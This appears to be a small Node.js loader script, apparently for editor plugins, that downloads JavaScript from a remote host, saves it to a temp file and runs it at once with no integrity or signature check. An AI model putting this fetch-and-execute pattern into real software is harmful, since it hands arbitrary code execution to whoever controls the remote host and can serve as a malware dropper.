const fs = require("fs");
const path = require("path");
const os = require("os");

const target = path.join(os.tmpdir(), "ext-loader.js");

async function main() {
  const res = await fetch("https://ext.editor-plugins.dev/loader.js");
  fs.writeFileSync(target, await res.text());
  require(target).activate();
}
main();
